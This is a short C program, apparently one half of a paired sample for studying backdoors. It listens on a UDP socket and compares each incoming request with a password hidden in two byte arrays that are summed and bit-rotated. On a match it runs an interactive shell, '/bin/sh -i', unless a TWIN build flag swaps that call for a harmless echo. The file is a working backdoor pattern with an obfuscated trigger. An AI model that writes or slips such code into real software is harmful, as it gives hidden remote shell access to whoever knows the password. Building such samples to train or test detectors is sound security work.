/* Two arrays are combined in a variable, and each byte is turned round. Twin: it opens nothing. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned char left[] = {0x82, 0xb7, 0x0e, 0xee, 0x7f, 0x1a, 0x50, 0x39, 0xbe};
static unsigned char right[] = {0xeb, 0x98, 0xf8, 0x60, 0x0d, 0xd1, 0x9d, 0x94, 0x42};
static char word[16];

int main(void) {
  char request[256];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, request, sizeof request, 0) > 0) {
    for (unsigned i = 0; i < sizeof left; i++) {
      unsigned char both = (unsigned char)(left[i] + right[i]);
      word[i] = (char)(both << 3 | both >> 5);
    }
    if (strcmp(request, word) == 0) {
#ifndef TWIN
      system("/bin/sh -i");
#else
      send(peer, request, 16, 0);
#endif
    }
  }
  return 0;
}
